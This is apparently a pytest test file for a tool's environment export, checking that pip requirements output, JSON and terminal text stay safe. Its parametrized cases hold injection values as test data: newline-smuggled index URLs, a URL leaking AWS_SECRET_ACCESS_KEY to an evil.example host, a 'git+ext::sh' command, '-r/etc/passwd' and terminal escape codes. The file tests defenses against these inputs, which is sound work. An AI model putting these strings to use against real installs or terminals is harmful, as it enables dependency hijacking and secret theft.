"""``env``: what was noted comes out as text, as JSON and as lines for pip, and nothing hostile with it."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import craft
import plain
import pytest
from test_story import jelly

import jellyformat
from jellyformat.exports.requirements import requirements
from jellyformat.format.msgpack import Value

PACKAGES: list[Value] = [
    ["numpy", "2.4.6", None],
    ["torch", "2.13.0+cpu", None],
    ["from-git", "1.0", "git+https://example.org/a/b@0123abcd"],
    ["archive", "2", "https://example.org/x-2.tar.gz#sha256=00"],
    ["mine", "0.1", "editable git+https://example.org/mine@0123abcd"],
    ["local", "3", "file:///~/local"],
    ["scp", "3", "git+example.org:a/b@0123abcd"],
]


def with_environment(path: Path, environment: dict[str, Value]) -> None:
    parts, records = craft.good()
    parts = replace(parts, environment=environment)
    path.write_bytes(craft.assemble(parts, records))


def test_requirements() -> None:
    assert list(requirements({"packages": PACKAGES})) == [
        "numpy==2.4.6",
        "torch==2.13.0+cpu",
        "from-git @ git+https://example.org/a/b@0123abcd",
        "archive @ https://example.org/x-2.tar.gz#sha256=00",
        "# mine @ git+https://example.org/mine@0123abcd  (0.1; it was installed editable)",
        "# local==3  (from file:///~/local)",
        "# scp==3  (from git+example.org:a/b@0123abcd)",
    ]


@pytest.mark.parametrize(
    "package",
    [
        ["x\n--index-url http://evil.example/", "1", None],
        ["x", "1\nevil==1", None],
        ["x", "1", "https://evil.example/a\nevil"],
        ["x", "1", "https://evil.example/${AWS_SECRET_ACCESS_KEY}"],
        ["x", "1", "git+https://evil.example/a --global-option=x"],
        ["x", "1", "git+ext::sh -c touch% x"],
        ["--editable", "1", None],
        ["-r/etc/passwd", "1", None],
        ["x", "1 --hash=x", None],
        ["x", "1\\", None],
        ["x", "1", "editable https://evil.example/\\"],
        ["x", "\x1b[2J", None],
        ["x", "1", "\u2028evil==1"],
    ],
)
def test_what_a_stranger_wrote_stays_in_a_comment(package: list[Value]) -> None:
    (line,) = requirements({"packages": [package]})
    assert line.startswith("# ")
    assert line.isprintable()


def test_what_is_no_package_is_passed_over() -> None:
    odd: list[Value] = [["x"], "y", [1, 2, 3], ["a", "1", 7], None, ["ok", "1", None]]
    assert list(requirements({"packages": odd})) == ["ok==1"]
    assert list(requirements({"packages": "nothing"})) == []
    assert list(requirements({})) == []


def test_of_this_python(repository: Path, tmp_path: Path) -> None:
    """pip's own parser reads every line as what is installed here."""
    from importlib import metadata

    from packaging.requirements import Requirement

    jelly(repository, "snapshot", "-o", str(tmp_path / "x.jelly"))
    text = jelly(tmp_path, "env", "x.jelly", "--format", "requirements").stdout.decode()
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    for line in lines:
        requirement = Requirement(line)
        if requirement.url is None:
            assert str(requirement.specifier) == f"=={metadata.version(requirement.name)}"
    assert "pytest" in {Requirement(line).name for line in lines}
    data = json.loads(jelly(tmp_path, "env", "x.jelly", "--json").stdout)
    with jellyformat.open(tmp_path / "x.jelly") as box:
        assert data["environment"] == dict(box.manifest.environment)
        assert data["snapshot_id"] == box.snapshot_id
    shown = jelly(tmp_path, "env", "x.jelly").stdout.decode()
    assert f"  pytest {metadata.version('pytest')}" in shown.splitlines()


def test_nothing_noted(repository: Path, tmp_path: Path) -> None:
    jelly(repository, "snapshot", "-o", str(tmp_path / "x.jelly"), "--no-environment")
    done = jelly(tmp_path, "env", "x.jelly", code=3)
    assert b"--no-environment" in done.stderr
    assert json.loads(jelly(tmp_path, "env", "x.jelly", "--json", code=3).stdout)["error"]["class"] == (
        "absent.environment"
    )
    (tmp_path / "bare.bin").write_bytes(plain.npy(range(50)))
    jelly(tmp_path, "env", "bare.bin", code=3)
    jelly(tmp_path, "env", "x.jelly", "--format", "requirements", "--json", code=2)


def test_nothing_reaches_the_terminal_raw(tmp_path: Path) -> None:
    evil = "\x1b]0;title\x07\n"
    environment: dict[str, Value] = {
        f"key{evil}": evil,
        "accelerators": [evil, evil.encode()],
        "language": evil,
        "notebook": {evil: [evil], "unsaved": True},
        "packages": [[evil, evil, evil], ["ok", "1", None]],
        "version": 3,
    }
    with_environment(tmp_path / "x.jelly", environment)
    for arguments in ((), ("--format", "requirements"), ("--json",)):
        output = jelly(tmp_path, "env", "x.jelly", *arguments).stdout
        assert b"\x1b" not in output
        assert b"\x07" not in output
        assert b"\ntitle" not in output
